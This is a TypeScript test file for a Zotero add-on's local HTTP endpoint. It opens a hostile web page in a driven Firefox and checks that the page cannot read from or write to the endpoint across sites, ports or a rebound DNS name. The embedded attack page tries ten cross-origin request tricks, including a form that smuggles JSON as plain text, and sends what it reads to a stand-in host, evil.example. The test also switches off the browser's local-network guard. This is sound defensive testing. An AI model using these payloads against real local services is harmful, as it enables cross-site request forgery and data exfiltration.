import assert from "node:assert/strict";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, it } from "node:test";
import type { SpisokApi } from "../../src/zotero/api.ts";
import { answerRequest } from "../../src/zotero/endpoint-answers.ts";
import { registerEndpoints } from "../../src/zotero/endpoint.ts";
import { importItems } from "../../src/zotero/writing/import-items.ts";
import { installFake, type FakeZotero } from "../addon/fake-zotero.ts";
import { Gecko } from "./marionette.ts";

const EVIL = "evil.example";
const TOKEN = "a-token-that-the-page-has-got-hold-of";
const BODY = JSON.stringify({ items: [{ itemType: "book", title: "Planted", creators: [], tags: [] }] });

/** The endpoints behind a server that lets everything through to them, as no Zotero would. */
function openServer(fake: FakeZotero, page: () => string): Server {
  return createServer(async (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const path = request.url!.split("?")[0]!;
    // What the attacker's own server had sent before its name came to mean this computer.
    if (path === "/page") return void response.setHeader("Content-Type", "text/html").end(page());
    const Endpoint = fake.Zotero.Server.Endpoints[path];
    if (request.method === "OPTIONS" || !Endpoint) return void response.writeHead(200).end();
    const text = Buffer.concat(chunks).toString();
    let data: unknown = text;
    try {
      data = JSON.parse(text);
    } catch {
      // A form.
    }
    const [status, type, body] = await new Endpoint().init({
      method: request.method,
      headers: request.headers,
      data,
    });
    answers.push(`${request.method} ${path} ${status}`);
    response.writeHead(status, { "Content-Type": type }).end(body);
  });
}

const answers: string[] = [];
const listen = (server: Server) =>
  new Promise<number>((done) =>
    server.listen(0, "127.0.0.1", () => done((server.address() as AddressInfo).port)),
  );

/** A page that tries all it can on a victim and tells its own server what it could read. */
const attack = (
  victim: string,
  report: string,
) => `<!doctype html><meta name="referrer" content="no-referrer"><body><script>
const victim = ${JSON.stringify(victim)}, body = ${JSON.stringify(BODY)}, token = ${JSON.stringify(TOKEN)};
const headers = { "Content-Type": "application/json", "X-Spisok-Token": token };
const ways = {
  "reads the status": () => fetch(victim + "/spisok/status").then((r) => r.text()),
  "reads the status without a referrer": () => fetch(victim + "/spisok/status", { referrerPolicy: "no-referrer" }).then((r) => r.text()),
  "sends JSON": () => fetch(victim + "/spisok/import", { method: "POST", headers, body }).then((r) => r.text()),
  "sends text without asking": () => fetch(victim + "/spisok/import", { method: "POST", mode: "no-cors", body }).then(() => ""),
  "sends JSON as Zotero's connector": () => fetch(victim + "/spisok/import", { method: "POST", headers: { ...headers, "X-Zotero-Connector-API-Version": "3" }, body }).then((r) => r.text()),
  "imports by GET": () => fetch(victim + "/spisok/import?token=" + token, { mode: "no-cors" }).then(() => ""),
  "sends a beacon": () => (navigator.sendBeacon(victim + "/spisok/import", new Blob([body], { type: "text/plain" })), ""),
  "loads a script": () => new Promise((done) => { const s = document.createElement("script"); s.onload = () => done(""); s.onerror = () => done(""); s.src = victim + "/spisok/status"; document.body.append(s); }),
  "submits a form": () => new Promise((done) => submit("", done)),
  "submits a form from a sandbox": () => new Promise((done) => submit("allow-forms allow-scripts", done)),
};
function submit(sandbox, done) {
  const frame = document.createElement("iframe");
  if (sandbox) frame.sandbox = sandbox;
  frame.srcdoc = '<form method="post" enctype="text/plain" action="' + victim + '/spisok/import"><input name=\\'' + body.slice(0, -1) + ',"a":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<\\/script>';
  document.body.append(frame);
  setTimeout(() => done(""), 1500);
}
(async () => {
  const read = {};
  for (const [name, way] of Object.entries(ways)) {
    const stop = new Promise((done) => setTimeout(() => done(""), 4000));
    read[name] = await Promise.race([Promise.resolve().then(way).catch(() => ""), stop]);
  }
  await fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify(read) });
})();
</script></body>`;

describe("a hostile page that knows the token", () => {
  let gecko: Gecko;
  let fake: FakeZotero;
  let victim: Server;
  let evil: Server;
  let victimPort: number;
  let evilPort: number;
  let page = "";
  let reported: (read: Record<string, string>) => void;

  before(async () => {
    fake = installFake();
    fake.prefs.set("extensions.spisok.endpoint.enabled", true);
    fake.prefs.set("extensions.spisok.endpoint.token", TOKEN);
    const api = {
      version: "0.1.0",
      importItems: (list, to = {}) => importItems(list, { libraryID: 1, ...to }),
    } as SpisokApi;
    registerEndpoints((path, request) => answerRequest(api, path, request));
    victim = openServer(fake, () => page);
    evil = createServer(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      if (request.method === "POST") reported(JSON.parse(Buffer.concat(chunks).toString()));
      response.setHeader("Content-Type", "text/html").end(page);
    });
    victimPort = await listen(victim);
    evilPort = await listen(evil);
    gecko = await Gecko.start(process.env["FIREFOX_BIN"]!, {
      "network.dns.localDomains": EVIL,
      "network.proxy.no_proxies_on": EVIL,
      "dom.security.https_first": false,
      // The browser's own guard of the local network would hide ours.
      "network.lna.enabled": false,
      "network.lna.blocking": false,
    });
  });
  after(async () => {
    await gecko?.stop();
    victim.close();
    evil.close();
  });

  /** Opens a page in the browser and waits for what it reports. */
  async function visit(url: string): Promise<Record<string, string>> {
    answers.length = 0;
    const report = new Promise<Record<string, string>>((done) => (reported = done));
    await gecko.run(
      `const { gBrowser } = Services.wm.getMostRecentWindow("navigator:browser");
       gBrowser.selectedTab = gBrowser.addTab(args[0], { triggeringPrincipal: Services.scriptSecurityManager.createNullPrincipal({}) });`,
      url,
    );
    return report;
  }

  it("is not what keeps programs out", async () => {
    const answer = await fetch(`http://127.0.0.1:${victimPort}/spisok/import`, {
      method: "POST",
      headers: { "Content-Type": "application/json", "X-Spisok-Token": TOKEN },
      body: BODY,
    });
    assert.equal(answer.status, 200);
    assert.equal(fake.items.size, 1);
    fake.items.clear();
  });

  for (const [name, from, to] of [
    ["on another site", () => `http://${EVIL}:${evilPort}/`, () => `http://127.0.0.1:${victimPort}`],
    [
      "on another port of this computer",
      () => `http://127.0.0.1:${evilPort}/`,
      () => `http://localhost:${victimPort}`,
    ],
    [
      "whose name was made to mean this computer",
      () => `http://${EVIL}:${victimPort}/page`,
      () => `http://${EVIL}:${victimPort}`,
    ],
  ] as const)
    it(`can neither write nor read ${name}`, async () => {
      page = attack(to(), `http://${EVIL}:${evilPort}/`);
      const read = await visit(from());
      assert.equal(fake.items.size, 0, answers.join("\n"));
      assert.ok(answers.length >= 4, `the page hardly reached the endpoint: ${answers.join(", ")}`);
      assert.deepEqual(
        answers.filter((answer) => !/ 40\d$/.test(answer)),
        [],
      );
      for (const [way, text] of Object.entries(read)) assert.doesNotMatch(text, /"spisok"|created/, way);
      assert.equal(Object.keys(read).length, 10);
    });
});
